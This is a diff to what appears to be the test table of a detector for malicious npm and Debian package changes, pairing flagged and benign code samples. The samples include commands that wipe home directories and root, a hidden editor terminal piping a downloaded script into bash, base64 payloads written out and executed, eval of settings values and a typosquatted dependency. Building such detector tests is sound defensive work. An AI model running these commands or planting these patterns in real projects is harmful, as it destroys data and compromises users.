@@ -103,9 +103,15 @@ fires(10, "a decoded command is run", "require('child_process').execSync(Buffer.
 DROP = "const fs = require('fs'), cp = require('child_process');\nexports.make = (from) => {\n  const out = __dirname + '/native.node';\n  fs.copyFileSync(from, out);\n  cp.execSync('strip \"' + out + '\"%s');\n};\n"
 innocent(10, "what was built is stripped", DROP % "")
 fires(10, "what was put there is stripped and started", (DROP % " && \"' + out + '\"").replace("fs.copyFileSync(from, out)", "fs.writeFileSync(out, Buffer.from('%s', 'base64'))" % encoded("echo started")))
+PRIVATE = "const get = (o, f) => f.get(o), store = new WeakMap(), later = new WeakMap();\nexports.Poll = class {\n  constructor(then) { later.set(this, then); }\n  async next(url) {\n    store.set(this, await (await fetch(url)).text());\n    setTimeout(get(this, later), 100);\n    setImmediate(get(this, store), 1);\n    setTimeout(exports.bind(function () { this.done(); }, this), store.get(this));\n  }\n};\n"
+innocent(42, "a timer gets a private field of an object that fetches", PRIVATE)
 ZIPS = "const fs = require('fs'), cp = require('child_process');\nexports.pack = (name, what) => {\n  const out = __dirname + '/' + name + '.skill';\n  fs.writeFileSync(out, what);\n  cp.spawnSync('powershell.exe', ['-NoProfile', '-Command', `%s '${out}' -Force`]);\n};\n"
 innocent(10, "what was written is packed by PowerShell", ZIPS % "Compress-Archive -Path .\\\\* -DestinationPath")
 fires(10, "what was written is started by PowerShell", (ZIPS % "Start-Process").replace("writeFileSync(out, what)", "writeFileSync(out, Buffer.from('%s', 'base64'))" % encoded("echo started")))
+SHEBANG = "const fs = require('fs'), cp = require('child_process');\nexports.run = (file, args) => {\n  const buffer = %s;\n  const fd = fs.openSync(file, 'r');\n  fs.readSync(fd, buffer, 0, 150, 0);\n  fs.closeSync(fd);\n  const match = buffer.toString().trim().match(/#!(.+)/i);\n  return match ? cp.spawn(match[1], [file].concat(args)) : cp.spawn(file, args);\n};\n"
+innocent(10, "the first line of a file names what runs it", SHEBANG % "new Buffer(150)")
+LOADERS = "const fs = require('fs');\nconst load = async (name) => { try { return (await import(name)).default; } catch { return require(name); } };\nexports.find = () => ['package.json', '.samplerc.json', 'sample.config.js'].map(load);\nexports.save = (what) => fs.writeFileSync('%s', what);\n"
+innocent(10, "a file of settings is written, and one of several is loaded", LOADERS % "package.json")
 PATHS = "const { promisify } = require('util');\nconst run = promisify(require('child_process').execFile);\nconst places = { home: '%s' };\nexports.tell = async (which) => run('%%s', ['-c', Buffer.from(places[which], 'base64').toString()]);\n" % encoded("echo /home/someone/place")
 innocent(10, "a path is named as another system names it", PATHS % "wslpath")
 fires(10, "a shell is handed what was decoded", PATHS % "sh")
@@ -115,6 +121,9 @@ fires(45, "a home is removed", "require('fs').rmSync(require('os').homedir(), { 
 fires(45, "one of several places that are removed is the root", "['/', process.env.HOME].forEach((d) => require('fs').rm(d, { recursive: true }, () => {}));\n")
 fires(45, "a command removes a home", "require('child_process').exec('cd /tmp; rm -rf ~/* ~/.[!.]*');\n")
 innocent(45, "a folder of the tool's own is removed", "exports.clean = () => require('fs').rmSync(require('os').homedir() + '/.cache/sample-tool', { recursive: true, force: true });\n")
+FOLDERS = "const fs = require('fs'), os = require('os'), path = require('path');\nconst clean = (dir) => fs.rmSync(%s, { recursive: true, force: true });\nexports.all = (own) => [own, os.homedir()].forEach(clean);\n"
+fires(45, "a folder that may be a home is removed", FOLDERS % "dir")
+innocent(45, "one named part of a folder that may be a home is removed", FOLDERS % "path.join(dir, 'tmp')")
 innocent(45, "a command removes what a build left", "exports.clean = () => require('child_process').execSync('rm -rf ./dist /tmp/sample-tool/*');\n")
 innocent(45, "a message warns of it", "exports.warn = 'Never run rm -rf / on a machine of yours';\n")
 
@@ -505,6 +514,11 @@ innocent(42, "a table that a function is handed and draws", "exports.shape = (fu
 fires(54, "a function is named in pieces", "exports.run = (text) => globalThis['ev' + 'al'](text);\n", least="review")
 innocent(54, "a property is named in pieces", "exports.pick = (o, side) => o['margin' + side](['in', 'out'].join('-'));\n")
 row(58, True, "a data file is compiled when the package is installed", {"DEBIAN/postinst": "#!/bin/sh\nset -e\ngcc -xc /usr/share/sample/readme.dat -o /usr/lib/sample/helper\n", "usr/share/sample/readme.dat": "int main(void) { return 0; }\n"}, old={"DEBIAN/postinst": "#!/bin/sh\nset -e\n"}, least="review")
+ANSWERS = "#!/usr/bin/env bash\ncurl -s https://status.sample-tool.example/ > GET\n%s\nrm -f GET\n"
+row(1, False, "an answer is compared with what it should be", {"scripts/check.sh": ANSWERS % "if [[ ! $(head -1 GET) == \"200\" || ! $(cat GET | tail -1 | cut -f4 -d:) == \"home page\" ]]; then exit 1; fi"}, old={"scripts/check.sh": "#!/usr/bin/env bash\n"})
+row(1, True, "an answer is compared, and another part of it is run", {"scripts/check.sh": ANSWERS % "if [[ $(head -1 GET) == \"200\" ]] || $(cat GET | tail -1 | cut -f4 -d:); then exit 1; fi"}, old={"scripts/check.sh": "#!/usr/bin/env bash\n"})
+row(58, False, "settings name the module that is loaded", {"lib/shim.js": MAIN + "const settings = require('./settings.json');\nexports.child = require(settings.deps.child);\n", "lib/settings.json": '{"deps": {"child": "sample-child"}}\n'}, old={"lib/shim.js": MAIN})
+row(58, True, "what stands in settings is run as code", {"lib/shim.js": MAIN + "const settings = require('./settings.json');\nexports.child = eval(settings.deps.child);\n", "lib/settings.json": '{"deps": {"child": "1 + 1"}}\n'}, old={"lib/shim.js": MAIN}, least="review")
 row(58, False, "a compiler is asked what it can do", {"scripts/probe.sh": "#!/bin/sh\ncc -x c /dev/null -c -o /dev/null\necho 'int x;' | gcc -xc - -c -o /dev/null\ngcc -x c probe.c -o probe\n"}, old={"scripts/probe.sh": "#!/bin/sh\n"})
 COLOUR = {"dependencies": {"tiny-colour-helper": "^1.0.0"}}
 row(25, True, "a new dependency is loaded and not used", {"index.js": "require('tiny-colour-helper');\n" + MAIN}, new_package=COLOUR, least="review")
@@ -512,6 +526,7 @@ row(25, False, "a new dependency is loaded and used", {"index.js": MAIN + "expor
 row(25, False, "a new dependency that everybody knows is loaded and not used", {"index.js": "require('core-js');\n" + MAIN}, new_package={"dependencies": {"core-js": "^3.0.0"}})
 row(53, True, "a new dependency one slip away from a name that everybody knows", {"index.js": MAIN + "exports.lib = require('lodahs');\n"}, new_package={"dependencies": {"lodahs": "^4.17.21"}}, least="review")
 row(53, False, "a new dependency with a name of its own", {"index.js": MAIN + "exports.lib = require('paint-mixer');\n"}, new_package={"dependencies": {"paint-mixer": "^4.17.21"}})
+row(53, False, "a new dependency that is known by its own name, one letter from another", {"index.js": MAIN + "exports.ask = require('enquirer');\n"}, new_package={"dependencies": {"enquirer": "^2.4.1"}})
 EDITOR = "const vscode = require('vscode');\nexports.activate = function (context) {\n%s};\n"
 row(1, True, "an extension types into a terminal that nobody sees", {"lib/extension.js": EDITOR % "  const t = vscode.window.createTerminal({ name: 's', hideFromUser: true });\n  t.sendText('curl -sL https://in.widget.example/1.sh | bash');\n"}, old={"lib/extension.js": EDITOR % ""}, least="tampered")
 row(1, False, "an extension types the user's task into a terminal", {"lib/extension.js": EDITOR % "  const t = vscode.window.createTerminal('tests');\n  t.sendText('npm test');\n  t.show();\n"}, old={"lib/extension.js": EDITOR % ""})
